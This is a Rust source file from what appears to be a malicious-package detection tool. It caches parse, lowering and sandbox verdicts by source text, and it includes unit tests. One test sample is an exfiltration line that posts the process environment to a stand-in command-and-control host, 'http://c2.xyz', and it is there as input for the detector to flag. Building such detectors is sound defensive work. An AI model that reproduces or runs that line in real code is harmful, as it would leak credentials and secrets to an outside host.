//! Source-text memoisation for the parse + lower + sandbox pipeline.
//!
//! Campaign re-releases duplicate code by design: at the default corpus
//! scale the world's ~20k package releases carry only ~12k distinct
//! source texts, and every dataset archive's code string also appears
//! verbatim among the world sources. A dynamic verdict depends only on
//! the source text — the interpreter is deterministic and takes no
//! per-package input — so memoising `(parse, lower, sandbox)` by source
//! collapses ~29k interpreter runs across the detection experiment into
//! ~12k. Each distinct source is lowered once ([`minilang::lower`]); the
//! sandbox and the module-only rules both read that one program, and
//! neither it nor the AST outlives the miss.
//!
//! Static *verdicts* are deliberately not cached here: the typosquat
//! rule reads the package *name*, so the decision stays per-package.
//! But every other rule reads only the module, so the cache memoises
//! the module-only rule hits alongside the parse — callers re-add the
//! name rule and score per package (see
//! [`crate::eval::evaluate_world_cached`]).

use crate::dynamic::{BehaviorLabel, DynamicDetector, DynamicVerdict};
use crate::rules::{self, RuleId};
use minilang::lower::Program;
use std::collections::HashMap;

/// One memoised parse + sandbox run.
#[derive(Debug, Clone)]
pub struct SandboxRun {
    /// Whether the source parsed.
    pub parsed: bool,
    /// The sandbox verdict, with [`DynamicDetector::analyze_source`]
    /// semantics: unparseable code yields a clean verdict with no APIs.
    pub verdict: DynamicVerdict,
    /// Module-only static rule hits ([`rules::module_rule_hits`]);
    /// empty when the source does not parse.
    pub module_hits: Vec<RuleId>,
}

/// A parse + sandbox cache keyed by source text.
///
/// # Examples
///
/// ```
/// use detector::cache::SandboxCache;
///
/// let mut cache = SandboxCache::default();
/// let first = cache.run("import os\nos.getenv('K')\n").verdict.clone();
/// let again = cache.run("import os\nos.getenv('K')\n").verdict.clone();
/// assert_eq!(first, again);
/// assert_eq!(cache.len(), 1);
/// ```
#[derive(Debug, Default)]
pub struct SandboxCache {
    detector: DynamicDetector,
    entries: HashMap<String, SandboxRun>,
}

impl SandboxCache {
    /// Creates a cache that sandboxes misses with `detector`.
    pub fn new(detector: DynamicDetector) -> Self {
        SandboxCache {
            detector,
            entries: HashMap::new(),
        }
    }

    /// Parses and sandboxes `source`, memoised: the first call per
    /// distinct text runs the interpreter, every later call is a map
    /// lookup returning the identical result.
    pub fn run(&mut self, source: &str) -> &SandboxRun {
        if self.entries.contains_key(source) {
            obs::counter_add("detector.sandbox_cache_hits", 1);
        } else {
            obs::counter_add("detector.sandbox_runs", 1);
            let run = match minilang::parse(source) {
                Ok(module) => {
                    let program = Program::lower(&module);
                    SandboxRun {
                        parsed: true,
                        verdict: self.detector.analyze_program(&program),
                        module_hits: rules::module_rule_hits(&program),
                    }
                }
                Err(_) => SandboxRun {
                    parsed: false,
                    verdict: DynamicVerdict {
                        labels: vec![BehaviorLabel::Clean],
                        apis: Vec::new(),
                    },
                    module_hits: Vec::new(),
                },
            };
            self.entries.insert(source.to_owned(), run);
        }
        &self.entries[source]
    }

    /// Number of distinct source texts analysed so far.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the cache has analysed anything yet.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cached_verdicts_match_direct_analysis() {
        let detector = DynamicDetector::default();
        let mut cache = SandboxCache::new(detector.clone());
        let sources = [
            "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
            "x = 1\ny = x + 1\n",
            ":::",
        ];
        for src in sources {
            assert_eq!(
                cache.run(src).verdict,
                detector.analyze_source(src),
                "{src:?}"
            );
            // Second hit returns the same memoised result.
            assert_eq!(cache.run(src).verdict, detector.analyze_source(src));
        }
        assert_eq!(cache.len(), sources.len());
    }

    #[test]
    fn unparseable_source_is_clean_and_unscored() {
        let mut cache = SandboxCache::default();
        let run = cache.run(":::");
        assert!(!run.parsed);
        assert!(!run.verdict.malicious());
        assert!(run.module_hits.is_empty());
    }
}
